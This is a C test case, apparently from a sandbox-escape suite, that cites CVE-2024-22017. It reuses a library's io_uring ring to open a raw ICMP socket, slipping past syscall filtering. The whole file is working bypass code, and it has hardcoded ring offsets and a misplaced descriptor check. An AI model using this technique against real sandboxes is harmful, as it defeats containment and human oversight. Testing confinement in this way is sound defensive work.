/* Makes a raw socket by the ring that the library has made for files.
 * stands for: CVE-2024-22017
 * grant: all
 * held: yes */
#include "attack.h"
#include "ring.h"
#include <nexus/fs.h>

/* As the kernel lays a ring of 64 out. */
enum { ENTRIES = 64, SQ_TAIL = 4, CQ_TAIL = 12, CQES = 64, ARRAY = CQES + 2 * ENTRIES * 16 };

static int ring_find(void)
{
    char path[64], kind[64];
    nx_bytes text;
    /* Has the library use it. */
    if (nx_fs_write_file(opened("x"), nx_str("x")) || nx_fs_read_file(opened("x"), &text))
        return -1;
    for (int fd = 3; fd < 64; fd++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t len = readlink(path, kind, sizeof kind - 1);
        if (len > 0 && memmem(kind, (size_t)len, "io_uring", 8)) return fd;
    }
    errno = ENOENT;
    return -1;
}

static long attack(void)
{
    int fd = ring_find();
    char *queue = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQ_RING);
    struct io_uring_sqe *entries =
        mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQES);
    if (fd < 0 || queue == MAP_FAILED || entries == MAP_FAILED) return -1;
    unsigned *tail = (unsigned *)(queue + SQ_TAIL), done = *(unsigned *)(queue + CQ_TAIL);
    entries[0] = (struct io_uring_sqe){
        .opcode = 45 /* IORING_OP_SOCKET */, .fd = AF_INET, .off = SOCK_RAW, .len = IPPROTO_ICMP};
    ((unsigned *)(queue + ARRAY))[*tail % ENTRIES] = 0;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -1;
    int result = ((struct io_uring_cqe *)(queue + CQES))[done % (2 * ENTRIES)].res;
    errno = result < 0 ? -result : 0;
    return result;
}
